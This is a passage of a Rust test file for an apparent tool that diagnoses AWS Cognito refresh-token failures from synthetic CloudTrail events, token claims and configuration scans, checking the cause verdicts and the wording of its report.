        json!({ "authFlow": "ADMIN_USER_PASSWORD_AUTH", "clientId": WEB, "userPoolId": POOL }),
    );
    assert_eq!(verdict_after("tracking-switched-on", vec![sign_in(WEB), admin, update(POOL)]), Verdict::Likely);
    // The scan knows it, as an audit of the account does.
    let scanned = |of: &str| Given {
        scan: scan(|pool, client| (pool.ids, client.ids) = (vec![of.into()], vec![WEB.into()])),
        ..Given::events(vec![sign_in(WEB), update(POOL), invalid(refresh(3_601, WEB))])
    };
    let signs = |given: Given| {
        let evidence = given.evidence();
        let history = History::of(&evidence.events);
        let diagnosis = diagnose(&evidence, &history, Moment::now());
        let cause = diagnosis.troubles[0].causes.iter().find(|ranked| ranked.cause.name == "tracking-switched-on");
        cause.expect("a cause").signs.known.iter().map(|sign| sign.weight).collect::<Vec<_>>()
    };
    assert_eq!(signs(scanned(POOL)), [sign::Weight::Strong]);
    assert_eq!(signs(scanned("eu-west-1_Zz9Yy8Xx7")), []);
}

#[test]
fn a_few_refusals_before_a_change_do_not_hide_it() {
    let update = event(
        600,
        "UpdateUserPoolClient",
        json!({ "userPoolId": POOL, "clientId": WEB, "refreshTokenRotation": { "feature": "ENABLED" } }),
    );
    let user = |number: usize, after: i64| {
        let user = |mut event: Value| {
            event["additionalEventData"]["sub"] = format!("{number:08}-1111-2222-3333-444444444444").into();
            event
        };
        [user(sign_in(WEB)), user(invalid(refresh(after, WEB)))]
    };
    let noise = user(0, 300);
    let later = (1..20).flat_map(|number| user(number, 3_601));
    let given = Given::events([update].into_iter().chain(noise).chain(later).collect());
    assert_eq!(given.verdict("rotation-with-refresh-flow"), Verdict::Likely);
}

#[test]
fn a_device_that_was_forgotten_before_the_last_sign_in_is_another_one() {
    let forget = event(-600, "ForgetDevice", Value::Null);
    let confirm = event(1, "ConfirmDevice", Value::Null);
    assert_eq!(verdict_after("device-forgotten", vec![forget, sign_in(WEB), confirm]), Verdict::Possible);
}

#[test]
fn refreshes_that_were_answered_say_whether_the_client_rotates() {
    let answered = |after, more: Value| {
        let mut event = refresh(after, WEB);
        event["responseElements"] = json!({ "authenticationResult": more });
        event
    };
    let old = json!({ "accessToken": event::HIDDEN, "idToken": event::HIDDEN });
    let new = json!({ "accessToken": event::HIDDEN, "refreshToken": event::HIDDEN });
    let after =
        |more: &Value| verdict_after("rotation-with-refresh-flow", vec![sign_in(WEB), answered(1_800, more.clone())]);
    assert_eq!((after(&old), after(&new)), (Verdict::Unlikely, Verdict::Likely));
    // An app that was answered again and again has stored what it was given.
    let refusal = at_endpoint(9_000, "refresh_token");
    let twice = |more: Vec<Value>| {
        Given::events([vec![sign_in(WEB)], more, vec![refusal.clone()]].concat()).verdict("rotated-token-not-stored")
    };
    assert_eq!(twice(vec![refresh(3_600, WEB)]), Verdict::Likely);
    assert_eq!(twice(vec![refresh(3_600, WEB), refresh(7_200, WEB)]), Verdict::Unlikely);
}

#[test]
fn an_event_that_stands_in_two_files_is_one() {
    let with_id = |mut event: Value, id: &str| {
        event["eventID"] = id.into();
        event
    };
    let count = |events: Vec<Value>| Given::events(events).evidence().events.list.len();
    assert_eq!(count(vec![with_id(refresh(1, WEB), "a"), with_id(refresh(1, WEB), "a")]), 1);
    assert_eq!(count(vec![with_id(refresh(1, WEB), "a"), with_id(refresh(1, WEB), "b")]), 2);
    assert_eq!(count(vec![refresh(1, WEB), refresh(1, WEB)]), 2);
}

#[test]
fn a_token_of_the_api_says_nothing_where_the_endpoint_was_not_called_for_certain() {
    let given = |answer| Given { tokens: vec![access_token(|_| ())], answers: vec![answer], ..Given::default() };
    let first = given("Invalid Refresh Token").causes()[0].0;
    assert_ne!(first, "oauth-refresh-of-api-token");
    assert_eq!(given("{\"error\":\"invalid_grant\"}").verdict("oauth-refresh-of-api-token"), Verdict::Likely);
}

#[test]
fn what_a_rule_found_of_another_pool_says_nothing() {
    let of = |resource: &str, is_known: bool| {
        let mut scanned = scan(|pool, client| {
            (pool.tracking, pool.ids) = (None, vec![POOL.into()]);
            client.ids = if is_known { vec![WEB.into()] } else { Vec::new() };
        })
        .expect("a scan");
        let mut other = scanned.pools[0].clone();
        (other.name, other.place, other.ids) = ("Other".to_owned(), "infra/other.yaml:2".to_owned(), Vec::new());
        scanned.pools.push(other);
        let place = "web/session.ts:7".to_owned();
        let found = Found {
            rule: "device-key-missing-on-refresh",
            place,
            resource: Some(resource.into()),
            message: "found".to_owned(),
            is_certain: true,
        };
        scanned.found.push(found);
        Given { scan: Some(scanned), ..Given::events(vec![invalid(refresh(3_601, WEB))]) }.verdict("device-key-missing")
    };
    assert_eq!(of("Pool", true), Verdict::Likely);
    assert_eq!(of("Other", true), Verdict::Possible);
    assert_eq!(of("Other", false), Verdict::Possible);
}

#[test]
fn what_is_known_is_not_told_as_unknown() {
    let unknown = |tokens: Vec<String>, scan: Option<Scanned>| {
        let given = Given { tokens, scan, ..Given::events(vec![invalid(refresh(3_601, WEB))]) };
        let evidence = given.evidence();
        let history = History::of(&evidence.events);
        let diagnosis = diagnose(&evidence, &history, Moment::now());
        let cause = diagnosis.troubles[0].causes.iter().find(|ranked| ranked.cause.name == "device-key-missing");
        cause.expect("a cause").signs.unknown.join("\n")
    };
    let with_device =
        access_token(|claims| claims["device_key"] = "eu-west-1_11111111-2222-3333-4444-555555555555".into());
    let all = unknown(Vec::new(), None);
    assert!(all.contains("remembers devices") && all.contains("sent DEVICE_KEY"), "{all}");
    let less = unknown(vec![with_device], found("device-key-missing-on-refresh"));
    assert!(!less.contains("remembers devices") && !less.contains("sent DEVICE_KEY"), "{less}");
}

#[test]
fn a_user_that_does_not_exist_is_told_at_a_refresh_only() {
    let told = |call: Value| {
        let evidence = Given::events(vec![refused(call, "UserNotFoundException", "User does not exist.")]).evidence();
        evidence.events.list[0].symptom
    };
    assert_eq!((told(refresh(60, WEB)), told(sign_in(WEB))), (Some(Symptom::UserUnknown), None));
}

#[test]
fn without_its_source_an_event_must_name_something_of_a_user_pool() {
    let kept = |name: &str, parameters: Value, source: Value| {
        let mut event = event(1, name, parameters);
        event["eventSource"] = source;
        event["additionalEventData"] = Value::Null;
        Given::events(vec![event]).evidence().events.list.len()
    };
    let iam = json!({ "userName": "deploy" });
    assert_eq!(kept("DeleteUser", iam.clone(), Value::Null), 0);
    assert_eq!(kept("DeleteUser", iam, event::SOURCE.into()), 1);
    assert_eq!(kept("RevokeToken", json!({ "clientId": WEB }), Value::Null), 1);
}

/// What is written for people.
fn written(given: &Given) -> String {
    let evidence = given.evidence();
    let history = History::of(&evidence.events);
    let diagnosis = diagnose(&evidence, &history, Moment::now());
    let mut out = Vec::new();
    let report = report::Report { diagnosis: &diagnosis, evidence: &evidence, notes: Vec::new() };
    report.write(report::Format::Text, None, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

#[test]
fn why_is_told_in_full_where_the_answer_names_only_what() {
    let call = event(5, "InitiateAuth", json!({ "authFlow": "USER_PASSWORD_AUTH", "clientId": WEB }));
    let told = written(&Given::events(vec![
        event(0, "UpdateUserPoolClient", json!({ "userPoolId": POOL, "clientId": WEB })),
        refused(call, "InvalidParameterException", "USER_PASSWORD_AUTH flow not enabled for this client"),
    ]));
    assert!(told.contains("send every setting with UpdateUserPoolClient"), "{told}");
}

#[test]
fn an_answer_that_nobody_told_is_said_to_be_assumed() {
    let token = || vec![access_token(|_| ())];
    assert!(written(&Given { tokens: token(), ..Given::default() }).contains("nothing says what the service answered"));
    let told = Given { tokens: token(), answers: vec!["Invalid Refresh Token"], ..Given::default() };
    assert!(!written(&told).contains("nothing says what the service answered"));
}

#[test]
fn an_event_without_its_user_is_the_callers_or_may_be_anybodys() {
    let unnamed = |mut event: Value| {
        event["additionalEventData"] = Value::Null;
        event
    };
    let revoke = event(60, "RevokeToken", json!({ "clientId": WEB }));
    let revoked = |revoke: Value| {
        let refusal = refused(refresh(3_601, WEB), "NotAuthorizedException", "Refresh Token has been revoked");
        Given::events(vec![sign_in(WEB), revoke, refusal]).verdict("revoked")
    };
    assert_eq!((revoked(revoke.clone()), revoked(unnamed(revoke))), (Verdict::Certain, Verdict::Likely));
    let signs = |mut removed: Value| {
        removed["sourceIPAddress"] = "198.51.100.9".into();
        let confirm = event(1, "ConfirmDevice", Value::Null);
        let given = Given::events(vec![sign_in(WEB), confirm, removed, invalid(refresh(3_601, WEB))]);
        let evidence = given.evidence();
        let history = History::of(&evidence.events);
        let diagnosis = diagnose(&evidence, &history, Moment::now());
        let cause = diagnosis.troubles[0].causes.iter().find(|ranked| ranked.cause.name == "user-removed");
        let signs = &cause.expect("a cause").signs;
        (signs.known.len(), signs.unknown.join(""))
    };
    let (known, unknown) = signs(unnamed(event(60, "AdminDisableUser", json!({ "userPoolId": POOL }))));
    assert!(known == 0 && unknown.contains("does not say of which user"), "{unknown}");
    assert_eq!(signs(unnamed(event(-60, "AdminDisableUser", json!({ "userPoolId": POOL })))).0, 1);
}
